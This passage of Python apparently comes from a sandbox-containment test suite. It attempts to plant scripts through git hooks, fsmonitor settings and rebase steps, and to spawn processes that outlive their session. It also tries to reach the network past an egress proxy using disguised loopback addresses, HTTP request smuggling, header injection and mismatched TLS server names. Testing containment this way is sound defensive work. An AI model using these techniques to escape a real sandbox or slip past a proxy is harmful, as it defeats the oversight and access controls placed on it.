    put(f"{r}/.git/worktrees/linked/config.worktree", f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_a_submodule_gets_a_hook")
def _submodule(v: str, r: str) -> None:
    script(f"{r}/.git/modules/sub/hooks/pre-commit", v)


@repository("git_a_submodule_gets_a_configuration")
def _submodule_config(v: str, r: str) -> None:
    with open(f"{r}/.git/modules/sub/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")


@repository("git_a_submodule_gets_another_common_folder")
def _submodule_common(v: str, r: str) -> None:
    run("cp", "-r", f"{r}/.git/modules/sub", f"{r}/copy")
    with open(f"{r}/copy/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n")
    put(f"{r}/.git/modules/sub/commondir", f"{r}/copy\n")


@repository("git_a_submodule_has_its_folder_elsewhere")
def _submodule_elsewhere(v: str, r: str) -> None:
    run("cp", "-r", f"{r}/.git/modules/sub", f"{r}/copy")
    with open(f"{r}/copy/config", "a") as file:
        file.write(f"[core]\n fsmonitor = {script(f'{r}/monitor', v)}\n worktree = {r}/sub\n")
    put(f"{r}/sub/.git", f"gitdir: {r}/copy\n")


@repository("git_all_submodules_are_moved_away")
def _modules_moved(v: str, r: str) -> None:
    os.rename(f"{r}/.git/modules", f"{r}/.git/modules-away")
    run("cp", "-r", f"{r}/.git/modules-away", f"{r}/.git/modules")
    script(f"{r}/.git/modules/sub/hooks/pre-commit", v)


@repository("git_a_rebase_that_the_person_goes_on_with")
def _rebase(v: str, r: str) -> None:
    """The steps of a rebase that is under way; `git rebase --continue` runs those that say `exec`."""
    with open(f"{r}/.git/rebase-merge/git-rebase-todo", "a") as file:
        file.write(f"exec {script(f'{r}/step', v)}\n")


@repository("git_templates_of_the_person")
def _templates(v: str, r: str) -> None:
    os.makedirs(f"{S.home}/.git-templates/hooks", exist_ok=True)
    script(f"{S.home}/.git-templates/hooks/pre-commit", v)


# --- what outlives its owner ---


def _outlives(name: str, *, ignores: bool = False, stopped: bool = False, environment: bool = True) -> None:
    def body(v: str) -> None:
        if os.fork():
            time.sleep(0.02)
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        if ignores:
            for one in range(1, 64):
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(one, signal.SIG_IGN)
        command = ["sleep", "300"] if not stopped else ["sh", "-c", "kill -STOP $$"]
        for held in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), held)
        os.execvpe(
            "/bin/sh",
            ["sh", "-c", f": {S.tag}-outlives-{name}; " + " ".join(command) + "; :"],
            dict(os.environ) if environment else {},
        )

    body.__name__ = name
    attempt()(body)


_outlives("outlive_by_two_forks")
_outlives("outlive_by_ignoring_signals", ignores=True)
_outlives("outlive_with_an_empty_environment", environment=False)


# --- the network, with `+net` ---


def _connects(
    name: str,
    family: int,
    place: Callable[[], tuple[object, ...]],
    kind: int = socket.SOCK_STREAM,
    protocol: int = 0,
    may_fail: str = "",
) -> None:
    def body(v: str) -> None:
        with socket.socket(family, kind, protocol) as line:
            line.settimeout(2)
            if kind == socket.SOCK_STREAM:
                line.connect(place())
                line.sendall(name.encode() + b"\n")
                line.recv(100)
            else:
                line.sendto(name.encode() + b"\n", place())

    body.__name__ = name
    attempt(NET, may_fail)(body)


_connects("net_by_address", socket.AF_INET, lambda: ("127.0.0.1", S.port))
_connects("net_by_name", socket.AF_INET, lambda: ("localhost", S.port))
_connects("net_by_another_address_of_this_machine", socket.AF_INET, lambda: ("127.1.2.3", S.port))
_connects("net_by_no_address", socket.AF_INET, lambda: ("0.0.0.0", S.port))
_connects("net_by_a_mapped_address", socket.AF_INET6, lambda: ("::ffff:127.0.0.1", S.port))
_connects("net_by_the_address_of_the_machine", socket.AF_INET, lambda: (S.address_of_machine, S.port))
_connects("net_by_many_paths", socket.AF_INET, lambda: ("127.0.0.1", S.port), protocol=262, may_fail=KERNEL)
_connects("net_by_a_datagram", socket.AF_INET, lambda: ("127.0.0.1", S.udp), socket.SOCK_DGRAM)
_connects("net_by_a_datagram_of_version_6", socket.AF_INET6, lambda: ("::1", S.udp), socket.SOCK_DGRAM)
_connects(
    "net_by_a_datagram_to_the_machine",
    socket.AF_INET,
    lambda: (S.address_of_machine, S.udp),
    socket.SOCK_DGRAM,
)
_connects("net_by_version_6", socket.AF_INET6, lambda: ("::1", S.port))
_connects("net_to_what_is_permitted_but_not_by_the_proxy", socket.AF_INET, lambda: ("127.0.0.1", S.good))
_connects(
    "net_by_a_light_datagram",
    socket.AF_INET,
    lambda: ("127.0.0.1", S.udp),
    socket.SOCK_DGRAM,
    136,
    may_fail=KERNEL,
)


@attempt(NET)
def net_with_the_first_packet(v: str) -> None:
    with socket.socket() as line:
        line.sendto(b"net_with_the_first_packet\n", 0x20000000, ("127.0.0.1", S.port))
        line.settimeout(2)
        line.recv(100)


@attempt(NET)
def net_by_many_messages_at_once(v: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendmsg([b"net_by_many_messages_at_once\n"], [], 0, ("127.0.0.1", S.udp))


@attempt(NET, may_fail="there may be no resolver here")
def net_by_a_question_to_the_resolver(v: str) -> object:
    servers = [
        line.split()[1] for line in content("/etc/resolv.conf").splitlines() if line.startswith("nameserver")
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(1)
        line.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1", (servers[0], 53))
        return f"answered with {len(line.recv(512))}"


def _asks(name: str, *texts: str, tail: bytes = b"") -> None:
    """Say something to the proxy, wait for its word, say the next thing. `{host}` is permitted, `{other}` is
    the port of a server that is not. Without a sandbox the same bytes go to that server: they would
    arrive."""

    def body(v: str) -> None:
        proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy") or ""
        to = ("127.0.0.1", S.port)
        if proxy:
            at, _, port = proxy.split("//")[-1].rstrip("/").rpartition(":")
            to = (at.split("@")[-1].strip("[]"), int(port))
        with socket.create_connection(to, 3) as line:
            for text in texts:
                made = text.format(host="allowed.dragoman.test", good=S.good, other=S.port, name=name)
                line.sendall(made.encode("latin-1"))
                line.settimeout(0.7)
                with contextlib.suppress(TimeoutError):
                    line.recv(4096)
            if tail:
                line.sendall(tail)

    body.__name__ = name
    attempt(NET)(body)


_SAY = "GET /{name} HTTP/1.1\r\nHost: x\r\n\r\n"
for _name, _place in {
    "by_address": "127.0.0.1",
    "by_a_number": "2130706433",
    "by_a_hexadecimal_number": "0x7f000001",
    "by_an_octal_number": "0177.0.0.1",
    "by_a_short_address": "127.1",
    "by_an_address_of_version_6": "[::1]",
    "by_a_mapped_address": "[::ffff:127.0.0.1]",
    "by_a_mapped_address_in_words": "[::ffff:7f00:1]",
    "by_nothing": "0",
    "by_localhost": "localhost",
    "by_a_name_with_a_dot": "localhost.",
    "by_a_user_before_it": "{host}@127.0.0.1",
    "by_a_longer_name": "{host}.localhost",
    "by_wide_digits": "\uff11\uff12\uff17.0.0.1".encode().decode("latin-1"),
    "by_another_port": "{host}",
    "by_a_scoped_address": "[::1%25lo]",
    "by_a_translated_address": "[64:ff9b::7f00:1]",
}.items():
    _asks(
        f"proxy_connects_{_name}",
        f"CONNECT {_place}:{{other}} HTTP/1.1\r\nHost: {_place}:{{other}}\r\n\r\n",
        _SAY,
    )
    if _name in ("by_address", "by_localhost", "by_another_port", "by_a_user_before_it"):
        _asks(
            f"proxy_fetches_{_name}",
            f"GET http://{_place}:{{other}}/{{name}} HTTP/1.1\r\nHost: {_place}\r\n\r\n",
        )

_FETCH = "GET http://{host}:{good}/ HTTP/1.1\r\nHost: {host}:{good}\r\n"
_NEXT = "GET http://127.0.0.1:{other}/{name} HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n"
_BEHIND = "GET /{name} HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n"
_asks("proxy_a_second_request_behind_the_first", _FETCH + "\r\n" + _NEXT)
_asks("proxy_a_second_request_in_the_body", _FETCH + "Content-Length: 0\r\n\r\n" + _BEHIND)
_asks("proxy_two_lengths", _FETCH + "Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + _BEHIND)
_asks(
    "proxy_a_length_and_chunks",
    _FETCH + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _BEHIND,
)
_asks(
    "proxy_chunks_in_other_letters",
    _FETCH + "Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + _BEHIND,
)
_asks("proxy_a_line_that_ends_otherwise", _FETCH + "X: y\n\nGET /{name} HTTP/1.1\nHost: elsewhere.test\n\n")
_asks("proxy_another_host_in_the_field", "GET http://{host}:{good}/ HTTP/1.1\r\nHost: {name}.test\r\n\r\n")
_asks(
    "proxy_two_hosts",
    "GET http://{host}:{good}/ HTTP/1.1\r\nHost: {host}:{good}\r\nHost: {name}.test\r\n\r\n",
)
_asks(
    "proxy_a_folded_host", "GET http://{host}:{good}/ HTTP/1.1\r\nHost: {host}:{good}\r\n {name}.test\r\n\r\n"
)
_asks("proxy_no_place_but_a_host", "GET /{name} HTTP/1.1\r\nHost: 127.0.0.1:{other}\r\n\r\n")
_asks(
    "proxy_words_that_are_not_tls_in_a_tunnel",
    "CONNECT {host}:{good} HTTP/1.1\r\nHost: {host}:{good}\r\n\r\n",
    "{name}\n",
)
_asks(
    "proxy_another_host_in_a_tunnel", "CONNECT {host}:{good} HTTP/1.1\r\nHost: {host}:{good}\r\n\r\n", _BEHIND
)
_asks(
    "proxy_http_2_without_tls",
    "CONNECT {host}:{good} HTTP/1.1\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{name}",
)
_asks(
    "proxy_a_place_with_a_line_break",
    "GET http://{host}:{good}/%0d%0aHost:elsewhere.test\r\n HTTP/1.1\r\n\r\n" + _BEHIND,
)
_asks("proxy_an_upgrade", _FETCH + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", _BEHIND)
_asks("proxy_socks", "\x05\x01\x00", "\x05\x01\x00\x01\x7f\x00\x00\x01", _SAY)


def client_hello(name: str) -> bytes:
    """The first message of TLS, which wants `name`."""
    server = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name.encode()
    extensions = struct.pack("!HH", 0, len(server)) + server
    body = (
        b"\3\3"
        + bytes(32)
        + b"\0"
        + b"\0\2\x13\x01"
        + b"\1\0"
        + struct.pack("!H", len(extensions))
        + extensions
    )
    shake = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack("!H", len(shake)) + shake


_CONNECT = "CONNECT {host}:{good} HTTP/1.1\r\nHost: {host}:{good}\r\n\r\n"
_asks("proxy_tls_wants_another_host", _CONNECT, tail=client_hello("proxy-tls-wants-another-host.test"))
_asks("proxy_tls_wants_nobody", _CONNECT, tail=client_hello("") + b"proxy_tls_wants_nobody")
_asks(
    "proxy_tls_wants_a_longer_name",
    _CONNECT,
    tail=client_hello("allowed.dragoman.test.proxy-tls-wants-a-longer-name.test"),
)


# --- running them ---


def begin(names: list[str]) -> tuple[int, int]:
    """Make attempts in a process of their own, which may end as it likes."""
    reader, writer = os.pipe()
    child = os.fork()
    if child:
        os.close(writer)
        return child, reader
    signal.alarm(8)
    told = {name: outcome_of(name) for name in names}
    with open(writer, "w") as pipe:
        json.dump(told, pipe)
    os._exit(0)


def outcome_of(name: str) -> dict[str, str]:
    told: dict[str, str]
    try:
        found = TABLE[name][0](f"{S.out}/{folder_of(name)}")
        told = {} if found is None or found is False else {"through": str(found)[:200]}
    except BaseException as error:  # noqa: BLE001 whatever it is, it did not get through by itself
        told = {"refused": f"{type(error).__name__}: {error}"[:300]}
        if not isinstance(error, OSError | ValueError | subprocess.SubprocessError):
            told["broken"] = traceback.format_exc()[-600:]
    return told


def end(names: list[str], child: int, reader: int) -> dict[str, dict[str, str]]:
    with open(reader) as pipe:
        words = pipe.readline() if len(names) == 1 else pipe.read()
    _, status = os.waitpid(child, 0)
    return json.loads(words) if words else {name: {"refused": f"ended with {status}"} for name in names}


def for_stage(on: str) -> list[str]:
    return [name for name, (_, stages, _) in TABLE.items() if on in stages.split()]


def folder_of(name: str) -> str:
    return name.replace("/", "_")


def main() -> None:
    with open(sys.argv[1]) as file:
        S.__dict__.update(json.load(file))
    for one in (signal.SIGWINCH, signal.SIGURG):
        signal.signal(one, signal.SIG_IGN)
    names = for_stage(S.on)
    batches = [[name] for name in names if name not in HARMLESS]
    batches += [[name for name in names if name in HARMLESS]]
    together = 16 if S.on == NET else 1
    told = {}
    for at in range(0, len(batches), together):
        begun = [(batch, *begin(batch)) for batch in batches[at : at + together]]
        for batch, child, reader in begun:
            told.update(end(batch, child, reader))
    put(f"{S.work}/told.json", json.dumps(told))


if __name__ == "__main__":
    main()
